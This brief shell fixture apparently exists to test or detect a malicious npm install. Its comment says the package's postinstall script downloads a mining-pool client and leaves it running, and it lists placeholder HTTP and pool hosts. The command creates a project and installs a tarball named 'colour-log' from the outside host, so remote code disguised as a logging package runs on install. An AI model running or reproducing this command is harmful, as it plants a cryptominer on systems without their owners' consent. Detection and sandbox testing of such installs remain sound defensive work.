# npm install of a package whose postinstall script downloads a pool client and leaves it running
#http 203.0.113.77:8017
#pool 198.51.100.122:443:err
mkdir -p /srv/app && cd /srv/app && echo '{"name":"app"}' > package.json && npm install --offline=false --no-audit --no-fund --no-update-notifier http://203.0.113.77:8017/colour-log.tgz; sleep 11
